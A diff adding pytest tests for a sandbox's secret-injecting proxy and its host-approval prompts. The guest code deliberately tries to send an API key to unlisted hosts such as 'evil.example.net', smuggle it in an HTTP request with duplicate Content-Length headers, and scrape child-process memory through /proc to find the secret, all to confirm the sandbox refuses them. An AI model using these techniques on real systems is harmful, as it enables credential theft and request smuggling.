@@ -1,0 +1,231 @@
+"""Attacks on the secrets of a run, and on the question about names that are not listed."""
+
+from __future__ import annotations
+
+import json
+import sys
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from stockade import NetworkUse, Result
+from tests.support.internet import OTHER, PRIVATE, VALUE, WEB, Internet
+
+pytestmark = pytest.mark.needs("native", "small-internet")
+
+_NAMES = {
+    "api.example.org": [[WEB]],
+    "other.example.org": [[WEB]],
+    "api.example.com": [[WEB]],  # its certificate is for other names
+    "evil.example.net": [[OTHER]],
+    "private.example.org": [[PRIVATE]],
+}
+_ALLOW = ["*.example.org:443", "*.example.org:80", "api.example.com:443"]
+_SECRETS = {"API_KEY": ["api.example.org", "api.example.com"]}
+_KIT = """
+import http.client, os, urllib.request
+GATEWAY = os.environ["STOCKADE_GATEWAY"]
+KEY = os.environ["API_KEY"]
+def ask(url, field="Authorization", value="Bearer " + KEY, data=None):
+    try:
+        return urllib.request.urlopen(urllib.request.Request(url, data, {field: value})).read()
+    except OSError as error:
+        return str(getattr(error, "reason", error))[:200]
+"""
+
+
+@pytest.fixture(scope="module")
+def internet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
+    """Return a caller in a small internet."""
+    net = Internet(tmp_path_factory.mktemp("internet"))
+    net.ask("names", **_NAMES)
+    yield net
+    net.close()
+
+
+def _run(internet: Internet, code: str, **options: Any) -> tuple[Result, NetworkUse, list[Any], dict[str, Any]]:
+    network = {"allow": _ALLOW, **options.pop("network", {})}
+    answer = internet.ask("run", code=code, network=network, **options)
+    assert "error" not in answer, answer
+    result = Result.from_dict(answer["result"])
+    assert result.network is not None and result.network.error is None, result.network
+    return result, result.network, answer["notes"], answer
+
+
+def test_secret_reaches_its_host_and_nothing_else(internet: Internet) -> None:
+    code = (
+        _KIT + "print(len(ask(GATEWAY + '/api.example.org/bytes?count=3')))\n"
+        "print(len(ask(GATEWAY + '/api.example.org:443/bytes?count=4', 'X-Api-Key', KEY, b'x' * 200000)))\n"
+        "print(KEY, sorted(os.environ.values()))"
+    )
+    result, use, notes, answer = _run(internet, code, secrets=_SECRETS)
+    found = [(note["key"], note["path"], note["body"]) for note in notes if "path" in note]
+    assert found == [
+        ("Bearer " + VALUE, "/bytes?count=3", 0),
+        (VALUE, "/bytes?count=4", 200000),
+    ], (result.stdout, use)
+    assert [note["sni"] for note in notes if note.get("sni")] == ["api.example.org"] * 2
+    assert result.stdout.startswith("3\n4\nstockade-secret-API_KEY-is-kept-outside")
+    assert VALUE not in json.dumps(answer["result"])
+    assert [(each.target, each.requests) for each in use.targets] == [("api.example.org:443", 2)]
+
+
+def test_command_line_hands_over_a_variable(internet: Internet) -> None:
+    code = _KIT + "print(len(ask(GATEWAY + '/api.example.org/bytes?count=5')))"
+    how = ["--allow", "api.example.org:443", "--secret", "API_KEY=MINE@api.example.org", "--json", "-c", code]
+    argv = [sys.executable, "-m", "stockade", "run", *how]
+    answer = internet.ask("command", argv=argv, environment={"MINE": VALUE})
+    assert json.loads(answer["stdout"])["stdout"] == "5\n" and VALUE not in answer["stdout"] + answer["stderr"], answer
+    assert [note["key"] for note in answer["notes"] if "path" in note] == ["Bearer " + VALUE]
+
+
+_MISUSES = {
+    "another_host_by_the_gateway": (
+        "ask(GATEWAY + '/other.example.org/')",
+        "other.example.org:443 is not a host of a secret",
+    ),
+    "another_host_by_the_proxy": (
+        "ask('http://other.example.org/')",
+        "the secret API_KEY goes only to api.example.org:443",
+    ),
+    "its_host_without_tls": ("ask('http://api.example.org/')", "only by the gateway"),
+    "its_host_at_another_port": ("ask(GATEWAY + '/api.example.org:80/')", "is not a host of a secret"),
+    "server_without_its_certificate": (
+        "ask(GATEWAY + '/api.example.com/')",
+        "api.example.com:443 has no TLS that proves its name: Hostname mismatch",
+    ),
+    "unlisted_host": ("ask(GATEWAY + '/evil.example.net/')", "evil.example.net:443 is not a host of a secret"),
+    "inside_a_longer_value": ("ask(GATEWAY + '/api.example.org/', value=KEY + 'x')", "whole value"),
+    "behind_a_strange_scheme": ("ask(GATEWAY + '/api.example.org/', value='a,b ' + KEY)", "whole value"),
+    "smuggled_request": (
+        "connection = http.client.HTTPConnection('127.0.0.1', 3128); connection.send(("
+        "'POST /api.example.org/first HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\nContent-Length: 60\\r\\nX: ' + KEY"
+        " + '\\r\\n\\r\\nGET /second HTTP/1.1\\r\\n\\r\\n').encode()); connection.sock.recv(1000)",
+        "Content-Length must be one number",
+    ),
+}
+
+
+@pytest.fixture(scope="module")
+def misused(internet: Internet) -> tuple[Result, NetworkUse, list[Any]]:
+    """Return the result of a guest that misuses its placeholder in each way."""
+    code = _KIT + "\n".join(each for each, _ in _MISUSES.values())
+    result, use, notes, _ = _run(internet, code, secrets=_SECRETS)
+    assert result.ok, (result.summary(), result.stderr)
+    return result, use, notes
+
+
+@pytest.mark.parametrize("name", _MISUSES)
+def test_misused_placeholder_is_refused(misused: tuple[Result, NetworkUse, list[Any]], name: str) -> None:
+    _, use, notes = misused
+    assert [each for each in use.refusals if _MISUSES[name][1] in each.reason], use.refusals
+    assert not [note for note in notes if VALUE in str(note) or "path" in note]
+
+
+def test_placeholder_in_url_and_body_and_other_run_stays_a_placeholder(internet: Internet) -> None:
+    code = (
+        _KIT + "print(ask(GATEWAY + '/api.example.org/' + KEY, 'X-Other', 'x', KEY.encode()).count(b'is-kept-outside'))"
+    )
+    result, _, notes, _ = _run(internet, code, secrets=_SECRETS)
+    assert result.stdout == "1\n" and VALUE not in str(notes), (result.stdout, result.stderr)
+    without = "import urllib.request as u\ntry: u.urlopen('http://127.0.0.1:3128/api.example.org/')\nexcept OSError as e: print(e)"
+    result, _, notes, _ = _run(internet, without)
+    assert "400" in result.stdout and not notes
+
+
+_LOOK_FOR_VALUE = """
+import os, sys, time, stockade
+from pathlib import Path
+os.environ["REAL"] = "sk-" + "value-to-look-for"
+code = '''
+import os, time, urllib.request
+request = urllib.request.Request(os.environ["STOCKADE_GATEWAY"] + "/api.example.org/bytes?count=1", headers={"X-Api-Key": os.environ["API_KEY"]})
+print(len(urllib.request.urlopen(request).read()), flush=True)
+time.sleep(30)
+'''
+secret = stockade.Secret.from_env("REAL", hosts=["api.example.org"])
+network = stockade.Network(allow=["api.example.org:443"])
+stream = stockade.Runner(network=network, backend="native").stream(code, secrets={"API_KEY": secret})
+for event in stream:
+    if isinstance(event, stockade.Output):
+        break
+del os.environ["REAL"]
+def below(pid):
+    found = [pid]
+    for task in Path(f"/proc/{pid}/task").iterdir():
+        for each in (task / "children").read_text().split():
+            found += below(int(each))
+    return found
+def memory(pid):
+    maps = [line.split() for line in Path(f"/proc/{pid}/maps").read_text().splitlines()]
+    with open(f"/proc/{pid}/mem", "rb", 0) as file:
+        for words in maps:
+            if "w" in words[1]:
+                begin, end = (int(each, 16) for each in words[0].split("-"))
+                try:
+                    file.seek(begin)
+                    yield file.read(end - begin)
+                except (OSError, OverflowError):
+                    pass
+wanted = ("sk-" + "value-to-look-for").encode()
+holders = []
+for pid in below(os.getpid())[1:]:
+    if wanted in Path(f"/proc/{pid}/environ").read_bytes() + Path(f"/proc/{pid}/cmdline").read_bytes():
+        holders.append("environment or arguments")
+    if any(wanted in piece for piece in memory(pid)):
+        holders.append(int(Path(f"/proc/{pid}/status").read_text().split("Threads:")[1].split()[0]) >= 1 and Path(f"/proc/{pid}/status").read_text().split("PPid:")[1].split()[0] == str(below(os.getpid())[1]))
+stream.cancel()
+print(event.data, holders)
+"""
+
+
+@pytest.mark.needs("root")
+def test_value_is_in_the_memory_of_the_proxy_alone(internet: Internet) -> None:
+    """Only root may look: the warden's child that is the proxy has the value, and neither the warden nor the guest."""
+    answer = internet.ask("command", argv=[sys.executable, "-c", _LOOK_FOR_VALUE])
+    assert answer["stdout"] == "b'1\\n' [True]\n", answer
+
+
+def test_unlisted_name_is_asked_about_once(internet: Internet) -> None:
+    code = """
+import urllib.request as u
+for name in ("other.example.net", "evil.example.net", "evil.example.net", "10.0.0.5"):
+    try: print(u.urlopen(f"http://{name}/").status)
+    except OSError as error: print(str(error)[:14])
+"""
+    answer = internet.ask(
+        "run", code=code, network={"allow": _ALLOW, "ask": True}, yes=["evil.example.net:80", "10.0.0.5:80"]
+    )
+    result = Result.from_dict(answer["result"])
+    assert result.stdout == "HTTP Error 403\n200\n200\nHTTP Error 403\n", (result.stdout, result.network)
+    assert answer["asked"] == ["other.example.net:80", "evil.example.net:80"]
+
+
+def test_allowed_answer_opens_no_private_address(internet: Internet) -> None:
+    code = (
+        "import urllib.request as u\ntry: u.urlopen('http://private.example.org:8080/')\nexcept OSError as e: print(e)"
+    )
+    _, use, notes, answer = _run(internet, code, network={"ask": True}, yes=["private.example.org:8080"])
+    assert answer["asked"] == ["private.example.org:8080"] and not [note for note in notes if "path" in note]
+    assert "10.0.0.5, a private address" in use.refusals[0].reason
+
+
+_SLOW_ANSWER = """
+import stockade, threading, time
+gate = threading.Event()
+def on_ask(target):
+    if target.startswith("other"): raise ValueError("no idea")
+    gate.wait(5)
+    return True
+code = "import urllib.request as u\\nfor name in ('other.example.net', 'evil.example.net', 'evil.example.net'):\\n    try: print(u.urlopen(f'http://{name}/').status)\\n    except OSError as e: print(e.code)"
+begin = time.monotonic()
+result = stockade.run(code, network=stockade.Network(ask=True, ask_time=0.3), on_ask=on_ask)
+gate.set()
+print(result.stdout.split(), time.monotonic() - begin < 4, threading.active_count() <= 2)
+"""
+
+
+def test_answer_that_comes_too_late_or_fails_is_no(internet: Internet) -> None:
+    answer = internet.ask("command", argv=[sys.executable, "-c", _SLOW_ANSWER])
+    assert answer["stdout"] == "['403', '403', '403'] True True\n", answer
